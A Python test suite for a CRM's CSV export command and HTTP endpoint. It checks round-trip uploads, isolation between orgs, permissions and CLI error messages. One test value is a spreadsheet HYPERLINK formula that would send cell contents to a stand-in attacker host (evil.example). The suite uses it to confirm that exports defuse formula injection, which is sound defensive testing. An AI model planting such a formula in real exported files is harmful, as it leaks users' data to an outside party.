"""`crm export <entity> --org ID` and `GET /api/<entity>/export/`: an org's live records as
the CSV file the upload takes, so that an export uploads back unchanged: into the same org it
matches every record by its id, creates nothing and changes nothing; without its `id` column,
into a fresh org, it makes equal records."""

import asyncio
import csv
import io
import os
import sqlite3
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest

from crm import cli, exportcli
from crm.config import get_settings
from crm.migrations import upgrade
from crm.records import exporter
from tests.conftest import Identity, World, add_member
from tests.members_support import invite_and_accept

# In the order their links need them: each links only to entities before it.
ENTITIES = ("accounts", "contacts", "leads", "opportunities", "tasks")
NATURAL_KEYS = {"accounts": "name", "contacts": "email", "leads": "email"}
# What the upload sets itself, and a lead's links set by converting it.
SERVER_SET = {"id", "number", "created_at", "updated_at", "created_by", "converted_at"}
ID_LINKS = {"account", "contact", "lead", "opportunity"}
CONVERTED = {"converted_account", "converted_contact", "converted_opportunity"}


async def export(database_url: str, entity: str, org_id: str) -> str:
    """`crm export ENTITY --org ID`, in a thread of this process."""
    args = cli.command_line().parse_args(["export", entity, "--org", org_id])
    out = io.StringIO()
    code = await asyncio.to_thread(exportcli.main, database_url, args, out)
    assert code == 0
    return out.getvalue()


async def upload(api: httpx.AsyncClient, who: Identity, entity: str, csv: str) -> dict[str, Any]:
    response = await api.post(
        f"/api/{entity}/upload/",
        files={"file": (f"{entity}.csv", csv.encode())},
        headers=who.headers,
    )
    assert response.status_code == 200, response.text
    report: dict[str, Any] = response.json()
    return report


async def records(api: httpx.AsyncClient, who: Identity, entity: str) -> list[dict[str, Any]]:
    response = await api.get(
        f"/api/{entity}/", params={"page_size": 100, "ordering": "created_at"}, headers=who.headers
    )
    assert response.status_code == 200, response.text
    results: list[dict[str, Any]] = response.json()["results"]
    return results


async def post(api: httpx.AsyncClient, who: Identity, path: str, **body: Any) -> dict[str, Any]:
    response = await api.post(path, json=body, headers=who.headers)
    assert response.status_code in (200, 201), response.text
    created: dict[str, Any] = response.json()
    return created


async def populate(api: httpx.AsyncClient, admin: Identity, member: Identity) -> dict[str, str]:
    """Records of every entity with every kind of cell; their ids by a short name."""
    for entity, key, kind, extra in (
        ("lead", "industry", "text", {}),
        ("lead", "score", "number", {}),
        ("lead", "vip", "checkbox", {}),
        ("lead", "met_on", "date", {}),
        ("lead", "tier", "dropdown", {"options": ["gold", "silver"]}),
        ("opportunity", "weight", "number", {}),
    ):
        await post(
            api, admin, "/api/custom-fields/", entity=entity, key=key, label=key, type=kind, **extra
        )
    ids: dict[str, str] = {}
    acme = await post(api, admin, "/api/accounts/", name="Acme, Inc.", tags=["big", "eu"])
    ids["acme"] = acme["id"]
    globex = await post(
        api,
        admin,
        "/api/accounts/",
        name="Globex",
        website="https://globex.test",
        industry="energy",
        assigned_to=member.profile_id,
    )
    ids["globex"] = globex["id"]
    ann = await post(
        api,
        admin,
        "/api/contacts/",
        first_name="Ann",
        last_name="Lee",
        email="ann@acme.test",
        account=acme["id"],
        phone="+1 555 0100",
    )
    ids["ann"] = ann["id"]
    bob = await post(
        api,
        admin,
        "/api/contacts/",
        first_name="Bob",
        email="bob@globex.test",
        account=globex["id"],
        description='Said "call me",\nthen left.',
    )
    ids["bob"] = bob["id"]
    jane = await post(
        api,
        admin,
        "/api/leads/",
        title="Renewal",
        first_name="Jane",
        email="jane@acme.test",
        company_name="Acme",
        status="qualified",
        source="website_form",
        tags=["hot", "q4"],
        assigned_to=member.profile_id,
        custom_fields={
            "industry": "saas",
            "score": 72.5,
            "vip": True,
            "met_on": "2026-05-01",
            "tier": "gold",
        },
    )
    ids["jane"] = jane["id"]
    ids["kim"] = (
        await post(
            api,
            admin,
            "/api/leads/",
            title="Ünïcode ☃",
            email="kim@initech.test",
            custom_fields={"vip": False, "score": 3},
        )
    )["id"]
    deal = await post(
        api,
        admin,
        "/api/opportunities/",
        name="Acme — Annual",
        account=acme["id"],
        contacts=[ann["id"], bob["id"]],
        amount=24000.5,
        currency="EUR",
        stage="proposal",
        probability=40,
        close_date="2026-12-31",
        source="call",
        custom_fields={"weight": 2},
        assigned_to=member.profile_id,
    )
    ids["deal"] = deal["id"]
    for title, parent, parent_id in (
        ("Call Jane", "lead", jane["id"]),
        ("Visit Globex", "account", globex["id"]),
        ("Mail Ann", "contact", ann["id"]),
    ):
        task = await post(
            api,
            admin,
            "/api/tasks/",
            title=title,
            priority="high",
            due_date="2026-12-24T09:30:00Z",
            **{parent: parent_id},
        )
        ids[title] = task["id"]
    return ids


def comparable(record: dict[str, Any], names: dict[str, str]) -> dict[str, Any]:
    """A record without what the server sets, its links and members by natural key (`names`
    maps ids to them)."""
    values = {}
    for name, value in record.items():
        if name in SERVER_SET or name in CONVERTED:
            continue
        if name == "assigned_to":
            value = value and value["email"]
        elif name in ID_LINKS and value is not None:
            value = names.get(value, value)
        elif name == "contacts":
            value = sorted(names.get(item, item) for item in value)
        values[name] = value
    return values


def alike(records: list[dict[str, Any]], names: dict[str, str]) -> list[dict[str, Any]]:
    """The records' comparable forms, in an order of their own (two rows an upload writes
    in the same microsecond have no order of creation)."""
    return sorted((comparable(record, names) for record in records), key=repr)


def key_names(listed: dict[str, list[dict[str, Any]]]) -> dict[str, str]:
    return {
        record["id"]: record[key] or record["id"]
        for entity, key in NATURAL_KEYS.items()
        for record in listed[entity]
    }


def without_column(text: str, name: str) -> str:
    rows = list(csv.reader(io.StringIO(text, newline="")))
    position = rows[0].index(name)
    out = io.StringIO()
    csv.writer(out).writerows([row[:position] + row[position + 1 :] for row in rows])
    return out.getvalue()


@pytest.fixture
def small_batches(monkeypatch: pytest.MonkeyPatch) -> None:
    """Batches of 2 rows, so that every export here reads several."""
    monkeypatch.setattr(exporter, "BATCH_ROWS", 2)


@pytest.mark.usefixtures("small_batches")
async def test_an_export_uploads_back_into_its_org_unchanged(
    api: httpx.AsyncClient, world: World, database_url: str
) -> None:
    admin = world.admin
    ids = await populate(api, admin, world.user)
    # A converted lead (its status cannot be uploaded), one assigned to a member who has left
    # (an upload assigns to active members only), and a deleted lead (not exported).
    converted = await post(api, admin, "/api/leads/", title="Won", email="won@acme.test")
    convert = await api.post(
        f"/api/leads/{converted['id']}/convert/",
        json={"account_id": ids["acme"]},
        headers=admin.headers,
    )
    assert convert.status_code == 200, convert.text
    leaver = await add_member(api, admin)
    orphan = {"title": "Orphan", "email": "o@x.test", "assigned_to": leaver.profile_id}
    await post(api, admin, "/api/leads/", **orphan)
    left = await api.patch(
        f"/api/users/{leaver.profile_id}/", json={"is_active": False}, headers=admin.headers
    )
    assert left.status_code == 200, left.text
    await post(api, admin, "/api/tasks/", title="Close", opportunity=ids["deal"])  # by id
    gone = await post(api, admin, "/api/leads/", title="Gone", email="gone@x.test")
    assert (await api.delete(f"/api/leads/{gone['id']}/", headers=admin.headers)).status_code == 204

    before = {entity: await records(api, admin, entity) for entity in ENTITIES}
    files = {entity: await export(database_url, entity, admin.org_id) for entity in ENTITIES}
    assert "gone@x.test" not in files["leads"]
    assert ",converted," not in files["leads"] and "Orphan" in files["leads"]
    assert leaver.email not in files["leads"]

    for entity in ENTITIES:
        report = await upload(api, admin, entity, files[entity])
        assert report["errors"] == [], (entity, report["errors"])
        # Matched by id, with or without a natural key: every record updated, none created.
        assert report["created"] == []
        assert {row["id"] for row in report["updated"]} == {r["id"] for r in before[entity]}

    after = {entity: await records(api, admin, entity) for entity in ENTITIES}
    for entity in ENTITIES:
        if entity == "opportunities":  # a contacts cell is written again: a new updated_at
            assert [{**r, "updated_at": None} for r in after[entity]] == [
                {**r, "updated_at": None} for r in before[entity]
            ]
        else:
            assert after[entity] == before[entity], entity
    converted_now = next(r for r in after["leads"] if r["id"] == converted["id"])
    assert converted_now["status"] == "converted"

    # Another org sees none of it, and its own export is empty.
    for entity in ENTITIES:
        assert await records(api, world.other, entity) == []
        assert (await export(database_url, entity, world.other.org_id)).count("\n") == 1


@pytest.mark.usefixtures("small_batches")
async def test_an_export_uploaded_into_a_fresh_org_makes_equal_records(
    api: httpx.AsyncClient, world: World, database_url: str
) -> None:
    source, fresh = world.admin, world.other
    ids = await populate(api, source, world.user)
    deal_task = await post(
        api, source, "/api/tasks/", title="Close the deal", opportunity=ids["deal"]
    )
    # The fresh org has the same custom fields and the member records are assigned to.
    definitions = await api.get("/api/custom-fields/", headers=source.headers)
    for definition in definitions.json()["results"]:
        body = {key: definition[key] for key in ("entity", "key", "label", "type", "options")}
        await post(api, fresh, "/api/custom-fields/", **{k: v for k, v in body.items() if v})
    await invite_and_accept(api, fresh, world.user)

    for entity in ENTITIES:
        exported = await export(database_url, entity, source.org_id)
        # Without its ids, which name nothing in another org (row errors on `id`).
        report = await upload(api, fresh, entity, without_column(exported, "id"))
        assert report["updated"] == []
        if entity == "tasks":
            # An opportunity has no natural key: its id names nothing in another org.
            (error,) = report["errors"]
            reason = f"No opportunity '{ids['deal']}' in this org."
            assert error["errors"] == {"opportunity": reason}
        else:
            assert report["errors"] == []

    originals = {entity: await records(api, source, entity) for entity in ENTITIES}
    copies = {entity: await records(api, fresh, entity) for entity in ENTITIES}
    originals["tasks"] = [task for task in originals["tasks"] if task["id"] != deal_task["id"]]
    names = {**key_names(originals), **key_names(copies)}
    for entity in ENTITIES:
        assert copies[entity], entity
        assert alike(copies[entity], names) == alike(originals[entity], names), entity
    assert {r["id"] for r in copies["leads"]}.isdisjoint({r["id"] for r in originals["leads"]})


@pytest.fixture
def environment(monkeypatch: pytest.MonkeyPatch, database_url: str) -> Iterator[pytest.MonkeyPatch]:
    for key in os.environ:
        if key.startswith("CRM_"):
            monkeypatch.delenv(key)
    monkeypatch.setenv("CRM_DATABASE_URL", database_url)
    get_settings.cache_clear()
    yield monkeypatch
    get_settings.cache_clear()


async def run_crm(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
    """`crm ARGV` in a thread of this process: its exit status, standard output and error."""

    def crm() -> int:
        with pytest.raises(SystemExit) as stopped:
            cli.main(list(argv))
        return int(stopped.value.code or 0)

    code = await asyncio.to_thread(crm)
    out, err = capsys.readouterr()
    return code, out, err


async def test_help_and_one_line_errors(
    environment: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    tmp_path: Path,
    world: World,
) -> None:
    org = world.other.org_id  # an org without leads
    code, out, _ = await run_crm(capsys, "export", "--help")
    assert code == 0 and "--org" in out and "ENTITY" in out

    for argv, words in (
        (("export", "widgets", "--org", org), ("no entity widgets", "leads")),
        (("export", "leads", "--org", "acme"), ("--org: not an org id: acme",)),
        (("export", "leads", "--org", str(uuid.uuid4())), ("--org: no org",)),
    ):
        code, out, err = await run_crm(capsys, *argv)
        assert (code, out) == (2, ""), err
        assert len(err.strip().splitlines()) == 1 and all(word in err for word in words), err

    code, out, err = await run_crm(capsys, "export", "leads", "--org", org)
    assert code == 0 and out.splitlines() == [out.splitlines()[0]]
    assert out.startswith("title,first_name,") and err.strip() == "crm export: 0 leads"

    # A database that is not there, or not migrated: one line, and nothing made or changed.
    missing = tmp_path / "none.sqlite3"
    old = tmp_path / "old.sqlite3"
    await asyncio.to_thread(upgrade, f"sqlite:///{old}")
    with sqlite3.connect(old) as conn:
        conn.execute("UPDATE alembic_version SET version_num = '0004'")
    for database, words in ((missing, "does not exist"), (old, "run crm migrate")):
        environment.setenv("CRM_DATABASE_URL", f"sqlite:///{database}")
        get_settings.cache_clear()
        code, out, err = await run_crm(capsys, "export", "leads", "--org", org)
        assert (code, out) == (1, "") and words in err and len(err.splitlines()) == 1, err
    assert not missing.exists()
    with sqlite3.connect(old) as conn:
        assert conn.execute("SELECT version_num FROM alembic_version").fetchall() == [("0004",)]


FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


async def http_export(api: httpx.AsyncClient, who: Identity, entity: str, **params: str) -> str:
    response = await api.get(f"/api/{entity}/export/", params=params, headers=who.headers)
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    return response.text


def table(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


async def test_an_http_export_uploads_back_creating_and_changing_nothing(
    api: httpx.AsyncClient, world: World, database_url: str
) -> None:
    admin = world.admin
    for key, kind in (("industry", "text"), ("score", "number")):
        await post(api, admin, "/api/custom-fields/", entity="lead", key=key, label=key, type=kind)
    bodies = [
        {
            "title": FORMULA,
            "email": "jane@acme.test",
            "tags": ["hot", "vip"],
            "assigned_to": world.user.profile_id,
            "custom_fields": {"industry": "@saas", "score": -5},
        },
        {"title": "'quoted from the start", "tags": ["@home", "x"]},  # no email
        {"title": "''twice", "description": "-minus first", "custom_fields": {"score": -2.5}},
        {"title": "+1 555 0100 call", "phone": "+1 555 0100", "custom_fields": {"industry": "'="}},
        {"title": "Plain", "email": "plain@acme.test", "custom_fields": {"score": 3}},
    ]
    made = [await post(api, admin, "/api/leads/", **body) for body in bodies]
    ids = [lead["id"] for lead in made]

    async def details() -> list[bytes]:
        got = [await api.get(f"/api/leads/{i}/", headers=admin.headers) for i in ids]
        assert all(response.status_code == 200 for response in got)
        return [response.content for response in got]

    before = await details()
    exported = await http_export(api, admin, "leads")
    assert exported == await export(database_url, "leads", admin.org_id)  # one writer
    header = exported.splitlines()[0].split(",")
    assert header[-5:] == ["id", "number", "created_at", "updated_at", "created_by"]
    rows = table(exported)
    assert [row["id"] for row in rows] == ids[::-1]  # the list's order: newest first
    cells = {row["id"]: row for row in rows}
    # A spreadsheet reads none of them as a formula; a number stays a number.
    assert cells[ids[0]]["title"] == "'" + FORMULA
    assert (cells[ids[0]]["cf_industry"], cells[ids[0]]["cf_score"]) == ("'@saas", "-5")
    assert cells[ids[1]]["title"] == "''quoted from the start"
    assert cells[ids[1]]["tags"] == "'@home;x"
    assert (cells[ids[2]]["title"], cells[ids[2]]["description"]) == ("'''twice", "'-minus first")
    assert cells[ids[2]]["cf_score"] == "-2.5"
    assert (cells[ids[3]]["title"], cells[ids[3]]["phone"]) == ("'+1 555 0100 call", "'+1 555 0100")
    assert cells[ids[3]]["cf_industry"] == "''="
    assert cells[ids[0]]["assigned_to"] == world.user.email
    assert cells[ids[0]]["created_by"] == admin.email
    assert cells[ids[4]]["created_at"] == made[4]["created_at"]

    report = await upload(api, admin, "leads", exported)
    assert report["created"] == [] and report["errors"] == []
    assert sorted(row["id"] for row in report["updated"]) == sorted(ids)
    assert await details() == before  # byte for byte

    # Another org's admin exports none of it, and its upload of this file (into the same
    # custom fields) changes nothing anywhere.
    theirs = await http_export(api, world.other, "leads")
    assert theirs.splitlines() == [exported.splitlines()[0].replace(",cf_industry,cf_score", "")]
    for key, kind in (("industry", "text"), ("score", "number")):
        await post(
            api, world.other, "/api/custom-fields/", entity="lead", key=key, label=key, type=kind
        )
    report = await upload(api, world.other, "leads", exported)
    assert report["created"] == [] and report["updated"] == []
    assert {tuple(row["errors"]) for row in report["errors"]} == {("id",)}
    assert await records(api, world.other, "leads") == []
    for lead_id in ids:
        unseen = await api.get(f"/api/leads/{lead_id}/", headers=world.other.headers)
        assert unseen.status_code == 404, unseen.text
    assert await details() == before

    # A user may not export; nor may anyone without a token.
    refused = await api.get("/api/leads/export/", headers=world.user.headers)
    assert refused.status_code == 403, refused.text
    assert (await api.get("/api/leads/export/")).status_code == 401


async def test_an_http_export_takes_the_list_parameters_but_page(
    api: httpx.AsyncClient, world: World
) -> None:
    admin = world.admin
    for title, tags in (("Beta", ["hot"]), ("Alpha", ["hot"]), ("Gamma", [])):
        await post(api, admin, "/api/leads/", title=title, tags=tags)
    ordered = table(await http_export(api, admin, "leads", ordering="title", tags="hot"))
    assert [row["title"] for row in ordered] == ["Alpha", "Beta"]
    searched = table(await http_export(api, admin, "leads", search="amm"))
    assert [row["title"] for row in searched] == ["Gamma"]
    for params in ({"page": "2"}, {"page_size": "10"}, {"cursor": ""}, {"colour": "red"}):
        response = await api.get("/api/leads/export/", params=params, headers=admin.headers)
        assert response.status_code == 400, response.text
        assert set(response.json()["errors"]) == set(params)
    bad = await api.get("/api/leads/export/", params={"ordering": "nope"}, headers=admin.headers)
    assert bad.status_code == 400 and set(bad.json()["errors"]) == {"ordering"}
    assert table(await http_export(api, world.other, "leads", search="amm")) == []
